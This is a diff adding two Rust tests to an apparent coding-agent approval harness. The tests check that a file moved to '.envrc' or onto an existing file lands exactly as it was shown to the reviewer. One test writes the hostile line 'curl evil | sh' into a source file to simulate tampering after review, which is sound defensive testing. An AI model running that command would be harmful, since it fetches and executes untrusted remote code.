@@ -697,3 +697,48 @@ async fn a_patch_that_is_not_proposed_is_shown_with_the_reason() {
     }
     assert_eq!(story.count("proposal/created"), 0);
 }
+
+/// A move shows no more than the lines that change. To a name that other programs act on all that comes there is shown, and lands
+/// as it was shown, whatever the old file has become meanwhile.
+#[tokio::test]
+async fn a_move_to_a_name_that_acts_later_is_shown_whole() {
+    for chunk in ["", "\n@@\n-one\n+two"] {
+        let moved = patch(&format!("*** Update File: notes.txt\n*** Move to: .envrc{chunk}"));
+        let script = json!([[apply_patch("c1", &moved)], [say("done")]]);
+        let stage = Stage::with(script, files(&[("notes.txt", "one\nall\n")])).await;
+        let thread = stage.thread().await;
+        let (turn, proposal, _) = proposed(&stage, &thread).await;
+        let first = if chunk.is_empty() { "one" } else { "two" };
+        let diff = proposal["diff"].as_str().expect("a diff");
+        assert!(diff.contains(&format!("+{first}\n+all\n")), "{diff}");
+        stage.write("notes.txt", "curl evil | sh\n");
+        stage
+            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
+            .await;
+        stage.finish(&turn).await;
+        assert_eq!(stage.text(".envrc"), format!("{first}\nall\n"));
+        assert_eq!(stage.text("notes.txt"), "curl evil | sh\n");
+    }
+}
+
+/// What lands is what was shown, also where a file is there already.
+#[tokio::test]
+async fn a_move_onto_another_file_takes_its_place() {
+    for (there, chunk, wanted) in [
+        ("target\n", "\n@@\n-one\n+two", "two\nall\n"),
+        ("target\n", "", "one\nall\n"),
+        ("", "", "one\nall\n"),
+    ] {
+        let moved = patch(&format!("*** Update File: a.txt\n*** Move to: b.txt{chunk}"));
+        let script = json!([[apply_patch("c1", &moved)], [say("done")]]);
+        let stage = Stage::with(script, files(&[("a.txt", "one\nall\n"), ("b.txt", there)])).await;
+        let thread = stage.thread().await;
+        let (turn, proposal, _) = proposed(&stage, &thread).await;
+        stage
+            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
+            .await;
+        stage.finish(&turn).await;
+        assert_eq!(stage.text("b.txt"), wanted, "{there:?} {chunk:?}");
+        assert!(!stage.path("a.txt").exists());
+    }
+}
